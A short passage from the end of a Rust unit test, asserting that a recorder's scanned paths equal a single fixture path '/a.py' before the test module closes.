        assert_eq!(rec.scanned_paths(), vec![PathBuf::from("/a.py")]);
    }
}
